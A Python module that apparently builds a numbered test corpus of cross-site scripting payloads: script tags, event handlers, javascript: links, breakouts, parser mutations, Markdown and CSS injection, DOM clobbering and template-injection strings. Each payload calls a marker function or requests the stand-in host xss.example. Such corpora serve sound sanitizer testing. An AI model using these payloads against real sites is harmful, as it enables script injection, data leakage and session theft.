"""Texts that try to run a script, or to reach another host, where a page shows them carelessly.

Each payload calls `xss(N)` with its own number, asks `https://xss.example/N` for something, or
leaves an element or a text with its number in the page: whoever opens the page can tell which of
them worked. `§` stands for the number. The families are the ways in that browsers are known to
leave; a family is written as its parts, and every combination of the parts is a payload.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import product
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

HOST = "xss.example"
"""The host that payloads ask for something. Nobody has it, and nobody is to be asked."""

_NUMBER = "§"
_CALL = f"xss({_NUMBER})"
_AWAY = f"https://{HOST}/{_NUMBER}"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text.

    Attributes:
        number: What it calls itself, from 1; the same text always has the same number.
        family: What it tries, in a word or two.
        text: The text itself.
    """

    number: int
    family: str
    text: str


def payloads() -> list[Payload]:
    """Return all payloads, in the order of their numbers; no two have the same text."""
    texts = {text: name for name, family in _FAMILIES.items() for text in family()}
    return [
        Payload(number, name, text.replace(_NUMBER, str(number)))
        for number, (text, name) in enumerate(texts.items(), start=1)
    ]


# --- Elements -------------------------------------------------------------------------------------


def _script_elements() -> Iterator[str]:
    yield from (
        f"<script>{_CALL}</script>",
        f"<SCRIPT>{_CALL}</SCRIPT>",
        f"<ScRiPt >{_CALL}</sCrIpT >",
        f"<script\n>{_CALL}</script\n>",
        f"<script/x>{_CALL}</script/x>",
        f"<script\t>{_CALL}</script>",
        f"<script\f>{_CALL}</script>",
        f"<script type=module>{_CALL}</script>",
        f"<script type=text/javascript>{_CALL}</script>",
        f"<script>{_CALL}",
        f"<script>\n\n{_CALL}\n\n</script>",
        f"<script><!--\n{_CALL}\n--></script>",
        f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
        f"<<script>{_CALL}//<</script>",
        f"<script\0>{_CALL}</script>",
        f"<s\0cript>{_CALL}</s\0cript>",
        f"<script src=data:text/javascript,{_CALL}></script>",
        f"<script src={_AWAY}.js></script>",
        f"<script src=//{HOST}/{_NUMBER}.js></script>",
        f"<script src=\\\\{HOST}\\{_NUMBER}.js></script>",
        f"<svg><script>{_CALL}</script></svg>",
        f"<svg><script>xss&#40;{_NUMBER}&#41;</script></svg>",
        f"<svg><script href=data:,{_CALL} /></svg>",
        f"<math><script>{_CALL}</script></math>",
        f"<table><script>{_CALL}</script></table>",
        f"<div><div><script>{_CALL}</script></div></div>",
        f"&lt;script&gt;{_CALL}&lt;/script&gt;",
        f"&#60;script&#62;{_CALL}&#60;/script&#62;",
        f"%3Cscript%3E{_CALL}%3C/script%3E",
        f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{_CALL}\\x3c/script\\x3e",
        f"\uff1cscript\uff1e{_CALL}\uff1c/script\uff1e",
        f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    )


_HANDLERS = (
    ("img src=x", "error"),
    ("img src", "error"),
    ("image src=x", "error"),
    ("audio src=x", "error"),
    ("video src=x", "error"),
    ("video><source", "error"),
    ("svg", "load"),
    ("body", "load"),
    ("iframe src=about:blank", "load"),
    ("object data=x", "error"),
    ("embed src=x", "error"),
    ("link rel=stylesheet href=x", "error"),
    ("style", "load"),
    ("input autofocus", "focus"),
    ("button autofocus", "focus"),
    ("textarea autofocus", "focus"),
    ("select autofocus", "focus"),
    ("a tabindex=1 autofocus", "focus"),
    ("details open", "toggle"),
    ("marquee", "start"),
    ("b", "click"),
    ("b", "mouseover"),
    ("b", "pointerenter"),
    ("p contenteditable", "input"),
    ("form", "submit"),
    ("dialog open", "close"),
    ("video poster=x", "loadstart"),
    ("svg><animate attributeName=x dur=1s", "begin"),
    ("svg><set attributeName=x", "begin"),
    ("x style=animation-name:x", "animationstart"),
    ("x-y", "wheel"),
    ("math", "click"),
)
_WRITTEN: tuple[Callable[[str, str], str], ...] = (
    lambda tag, event: f"<{tag} on{event}={_CALL}>",
    lambda tag, event: f'<{tag.upper()} ON{event.upper()} = "{_CALL}">',
    lambda tag, event: f"<{tag.replace(' ', '/')}/on{event}='{_CALL}'//",
)


def _event_handlers() -> Iterator[str]:
    for (tag, event), write in product(_HANDLERS, _WRITTEN):
        yield write(tag, event)
    yield from (
        f"<img src=x\nonerror\n=\n{_CALL}\n>",
        f"<img\tsrc=x\tonerror={_CALL}\t>",
        f"<img\fsrc=x\fonerror={_CALL}>",
        f"<img\0src=x\0onerror={_CALL}>",
        f"<img src=x onerror=xss&lpar;{_NUMBER}&rpar;>",
        f"<img src=x onerror=&#x78;ss({_NUMBER})>",
        f"<img src=x onerror=\\u0078ss({_NUMBER})>",
        f"<img src=x onerror=xss`{_NUMBER}`>",
        f"<img src=x onerror={_CALL} x=",
        f"<img src=x onerror={_CALL} <b>",
        f"<img src='x' onerror=\"{_CALL}\" alt='\"'>",
        f"<img src=x:x onerror={_CALL}>",
        "<img " + f'"""><img src=x onerror={_CALL}>',
        f"< img src=x onerror={_CALL}>",
        f"<img/ /onerror={_CALL} src=x>",
    )


# --- Addresses ------------------------------------------------------------------------------------

_ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f" javascript:{_CALL}",
    f"\x01javascript:{_CALL}",
    f"java\tscript:{_CALL}",
    f"java\nscript:{_CALL}",
    f"java\0script:{_CALL}",
    f"javascript\t:{_CALL}",
    f"javascript&colon;{_CALL}",
    f"javascript&#58;{_CALL}",
    f"javascript&#x3A{_CALL}",
    f"&#106;avascript:{_CALL}",
    f"&#x6A&#x61&#x76&#x61script:{_CALL}",
    f"java&Tab;script:{_CALL}",
    f"java&NewLine;script:{_CALL}",
    f"javascript:{_CALL}//https://a.example",
    f"javascript://a.example/%0a{_CALL}",
    f"javascript:xss%28{_NUMBER}%29",
    f"javascript:/*-/*`/*'/*\"/**/{_CALL}//",
    f"vbscript:{_CALL}",
    f"livescript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"data:text/html;charset=utf-7,+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_CALL}'/>",
    f"data:,{_CALL}",
    f"blob:https://a.example/{_NUMBER}",
    f"view-source:javascript:{_CALL}",
    f"feed:javascript:{_CALL}",
    f"jar:{_AWAY}!/x",
)
_LINKS: tuple[Callable[[str], str], ...] = (
    lambda address: f"[x]({address})",
    lambda address: f'<a href="{address}">x</a>',
    lambda address: f"[x]\n\n[x]: {address}",
)


def _addresses() -> Iterator[str]:
    for address, write in product(_ADDRESSES, _LINKS):
        yield write(address)
    for address in _ADDRESSES[:4]:
        yield from (
            address,
            f"<{address}>",
            f"![x]({address})",
            f"[x](<{address}>)",
            f'<iframe src="{address}"></iframe>',
            f'<object data="{address}"></object>',
            f'<embed src="{address}">',
            f'<form action="{address}"><button>x</button></form>',
            f'<form><button formaction="{address}">x</button></form>',
            f'<form><input type=image formaction="{address}"></form>',
            f'<svg><a href="{address}"><text y="20">x</text></a></svg>',
            f'<svg><a xlink:href="{address}"><text y="20">x</text></a></svg>',
            f'<math href="{address}">x</math>',
            f'<map name=m§><area shape=default href="{address}"></map><img usemap=#m§ src=x>',
            f'<meta http-equiv=refresh content="0; url={address}">',
            f'<base href="{address}//">',
        )


# --- Ways out of where a text stands --------------------------------------------------------------

_ENDS = ('"', "'", "`", '">', "'>", ">", "&quot;", "&#34;>", '\\">', "--><", "]]>", "/>")
_AFTER_ENDS = (
    f" onmouseover={_CALL} x=",
    f" autofocus tabindex=1 onfocus={_CALL} x=",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
)


def _attribute_breakouts() -> Iterator[str]:
    for end, after in product(_ENDS, _AFTER_ENDS):
        yield f"x{end}{after}"


def _element_breakouts() -> Iterator[str]:
    tags = ("title", "textarea", "style", "noscript", "xmp", "pre", "option", "select", "template")
    for tag in tags:
        yield f"</{tag}><img src=x onerror={_CALL}>"
    yield f"--><img src=x onerror={_CALL}>"
    yield f"?><img src=x onerror={_CALL}>"
    yield f"]]><img src=x onerror={_CALL}>"
    yield f"</main></body></html><script>{_CALL}</script>"


def _script_breakouts() -> Iterator[str]:
    yield from (
        f"</script><script>{_CALL}</script>",
        f"</ScRiPt ><script>{_CALL}//",
        f"<!--<script>{_CALL}</script>",
        f"<!--<script></script>{_CALL}",
        f'";{_CALL};//',
        f"';{_CALL};//",
        f"`;{_CALL};//",
        f'"-{_CALL}-"',
        f"'-{_CALL}-'",
        f'\\";{_CALL};//',
        f"\\';{_CALL};//",
        f'\\\\";{_CALL};//',
        f'"}};{_CALL};//',
        f'"]}});{_CALL};//',
        f"${{{_CALL}}}",
        f"`+{_CALL}+`",
        f"\u2028{_CALL}\u2028//",
        f"\u2029{_CALL}\u2029//",
        f"\n{_CALL}\n//",
        f"\r{_CALL}\r//",
        f"\x85{_CALL}\x85//",
        f"*/{_CALL}/*",
        f"//\n{_CALL}",
        f"\\u2028{_CALL}//",
        f"\\u0022;{_CALL};//",
        f"\\x22;{_CALL};//",
        f"&quot;;{_CALL};//",
        f'{{"__proto__": {{"x": "{_CALL}"}}}}',
        f'__proto__";{_CALL};//',
        f'\\ud800";{_CALL};//',
    )


# --- What parsers make of broken or foreign markup ------------------------------------------------


def _mutations() -> Iterator[str]:
    image = f"<img src=x onerror={_CALL}>"
    yield from (
        f'<noscript><p title="</noscript>{image}">',
        f'<svg></p><style><a id="</style>{image}">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{image}">',
        f"<math><annotation-xml encoding=text/html><style>{image}</style></annotation-xml></math>",
        f"<svg><desc><style><img title='</style>{image}'></desc></svg>",
        f"<svg><foreignObject>{image}</foreignObject></svg>",
        f"<svg><title><style>{image}</style></title></svg>",
        f"<form><math><mtext></form><form><mglyph><style></math>{image}",
        f"<template>{image}</template>",
        f"<select><style></select>{image}</style>",
        f"<textarea><img title='</textarea>{image}'>",
        f"<xmp><p title='</xmp>{image}'>",
        f"<noembed><p title='</noembed>{image}'>",
        f"<noframes><p title='</noframes>{image}'>",
        f"<plaintext>{image}",
        f"<!--><img src=x onerror={_CALL}>-->",
        f"<!--!><img src=x onerror={_CALL}>-->",
        f"<![CDATA[<img src=x onerror={_CALL}>]]>",
        f"<?xml version='1.0'?>{image}",
        f"<!DOCTYPE x [<!ENTITY e '{image}'>]>&e;",
        f"<table><caption>{image}</table>",
        f"<p><table><tr><p>{image}",
        f"<a><a>{image}</a></a>",
        f"<b><p></b>{image}",
        f"<svg><![CDATA[><img src=x onerror={_CALL}>]]></svg>",
        (
            f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
            f"<image href='1' onerror='{_CALL}'/></svg>#x\"/></svg>"
        ),
        (
            f"<svg><a><animate attributeName=href values=javascript:{_CALL} />"
            "<text y=20>x</text></a></svg>"
        ),
        f'<iframe srcdoc="<script>parent.xss({_NUMBER})</script>"></iframe>',
        f"<iframe srcdoc='&lt;img src=x onerror={_CALL}&gt;'></iframe>",
        f"<iframe srcdoc=<svg/onload={_CALL}>>",
        f"<frameset onload={_CALL}>",
        f"<keygen autofocus onfocus={_CALL}>",
        f"<isindex type=image src=1 onerror={_CALL}>",
        f"<bgsound src=javascript:{_CALL}>",
        f"<video srcdoc><track kind=subtitles src=x onerror={_CALL}></video>",
    )


def _markdown() -> Iterator[str]:
    image = f"<img src=x onerror={_CALL}>"
    yield from (
        f"`{image}",
        f"``{image}`",
        f"```\n{image}",
        f'```"><img src=x onerror={_CALL}>\nx\n```',
        f"~~~ {image}\nx\n~~~",
        f"    \n{image}",
        f"> {image}",
        f"# {image}",
        f"1. {image}",
        f"* * *\n{image}",
        f"**{image}**",
        f"|a|\n|-|\n|{image}|",
        f"|{image}|\n|-|\n|a|",
        f"\\{image}",
        f"\\<img src=x onerror={_CALL}>",
        f'[x](https://a.example "{image}")',
        f"[x](https://a.example '\" onmouseover={_CALL} ')",
        f'[x](https://a.example" onmouseover="{_CALL})',
        f"[x](https://a.example' onmouseover='{_CALL})",
        f"![{image}](x)",
        f'![x" onerror="{_CALL}](x)',
        f'![x](x" onerror="{_CALL})',
        f"[{image}](https://a.example)",
        f'<https://a.example/"onmouseover="{_CALL}>',
        f'<xss@a.example" onmouseover="{_CALL}>',
        f'https://a.example/"onmouseover="{_CALL}',
        f"https://a.example/<img/src=x/onerror={_CALL}>",
        f"[x]: https://a.example\n{image}",
        f"[^1]\n\n[^1]: {image}",
        f"Term\n: {image}",
        f"<div markdown=1>{image}</div>",
        f"<p>\n\n{image}\n\n</p>",
        f"&amp;lt;img src=x onerror={_CALL}&amp;gt;",
        f"\x02{image}\x03",
        f"\x02wzxhzdk:0\x03{image}",
        f"\x02klzzwxh:0000\x03{image}",
        f"- [ ] {image} @2026-11-30",
        f"- next: 2026-11-30 {image}",
        f"[x](a.md#{image})",
        f"[x](../attachments/{image})",
    )


# --- Without a script -----------------------------------------------------------------------------


def _requests() -> Iterator[str]:
    yield from (
        f"<img src={_AWAY}>",
        f"![x]({_AWAY}.png)",
        f"<img srcset={_AWAY}>",
        f"<picture><source srcset={_AWAY}><img></picture>",
        f"<img src='{_AWAY}?",
        f"<video poster={_AWAY}></video>",
        f"<video src={_AWAY} autoplay></video>",
        f"<audio src={_AWAY} autoplay></audio>",
        f"<iframe src={_AWAY}></iframe>",
        f"<object data={_AWAY}></object>",
        f"<embed src={_AWAY}>",
        f"<input type=image src={_AWAY}>",
        f"<link rel=stylesheet href={_AWAY}>",
        f"<link rel=preload as=image href={_AWAY}>",
        f"<link rel=prefetch href={_AWAY}>",
        f"<link rel=icon href={_AWAY}>",
        f"<svg><image href={_AWAY} /></svg>",
        f"<svg><use href={_AWAY}#x /></svg>",
        f"<body background={_AWAY}>",
        f"<table background={_AWAY}><tr><td>x</table>",
        f"<base href=https://{HOST}/{_NUMBER}/><img src=x>",
        f"<meta http-equiv=refresh content='0; url={_AWAY}'>",
        f"<meta http-equiv=refresh content=0;{_AWAY}>",
        f"<form action={_AWAY}><button>x</button></form>",
        f"<a href=https://a.example ping={_AWAY}>x</a>",
        f"<script>fetch('{_AWAY}')</script>",
    )


def _styles() -> Iterator[str]:
    yield from (
        f"<style>*{{background:url({_AWAY})}}</style>",
        f"<style>@import '{_AWAY}';</style>",
        f"<style>@import url({_AWAY});</style>",
        f"<p style=background:url({_AWAY})>x</p>",
        f"<p style=\"background-image:\\75rl('{_AWAY}')\">x</p>",
        f"<p style='list-style:url({_AWAY});display:list-item'>x</p>",
        f"<p style='content:url({_AWAY})'>x</p>",
        f"<p style='width:expression({_CALL})'>x</p>",
        f"<p style='-moz-binding:url({_AWAY})'>x</p>",
        f"<p style='behavior:url({_AWAY})'>x</p>",
        f"<style>@font-face{{font-family:x;src:url({_AWAY})}}body{{font-family:x}}</style>",
        f"<style>input[value^=a]{{background:url({_AWAY})}}</style>",
        f"x}}*{{background:url({_AWAY})}}",
        f"red;background:url({_AWAY})",
        f"</style><style>*{{background:url({_AWAY})}}</style>",
        f"<style>@import'{_AWAY}",
    )


CLOBBERED = "xssElement"
"""Beginning of the names by which payloads put elements among a page's global names."""


def _clobbering() -> Iterator[str]:
    name = f"{CLOBBERED}{_NUMBER}"
    yield from (
        f"<a id={name}>",
        f"<a id={name}><a id={name} name=x>",
        f"<img name={name}>",
        f"<form id={name}><input name=x></form>",
        f"<iframe name={name}></iframe>",
        f"<object id={name}></object>",
        f"<embed name={name}>",
        f"<form name={name}>",
        f"<a id='TrackerQuery'></a><b id={name}></b>",
        f"<a id=trackerCustomers name=parts></a><b id={name}></b>",
        f"<dialog id=search></dialog><b id={name}></b>",
        f"<img name=getElementById><b id={name}></b>",
        f"# x {{#{name}}}",
    )


COMPUTED = "xssComputed"
"""Beginning of the texts that stand in a page where a template language took a payload for code."""


def _templates() -> Iterator[str]:
    joined = f"'{COMPUTED[:5]}' ~ '{COMPUTED[5:]}{_NUMBER}'"
    plus = joined.replace("~", "+")
    yield from (
        f"{{{{ {joined} }}}}",
        f"{{{{{plus}}}}}",
        f"{{% set x = {joined} %}}{{{{ x }}}}",
        f"{{% print({joined}) %}}",
        f"{{{{ ''.__class__.__mro__ }}}}{{{{ {joined} }}}}",
        f"${{{plus}}}",
        f"#{{{plus}}}",
        f"<%= {plus} %>",
        f"{{{{constructor.constructor('{_CALL}')()}}}}",
        f"[[${{{plus}}}]]",
        f"%(name)s {{name}} {{{{ {joined} }}}}",
        f"[count] [shown] {{{{ {joined} }}}}",
        f"{{# x #}}{{{{ {joined} }}}}",
    )


_FAMILIES: dict[str, Callable[[], Iterator[str]]] = {
    "script elements": _script_elements,
    "event handlers": _event_handlers,
    "addresses": _addresses,
    "attribute breakouts": _attribute_breakouts,
    "element breakouts": _element_breakouts,
    "script breakouts": _script_breakouts,
    "mutations": _mutations,
    "Markdown": _markdown,
    "requests": _requests,
    "styles": _styles,
    "clobbered names": _clobbering,
    "template languages": _templates,
}
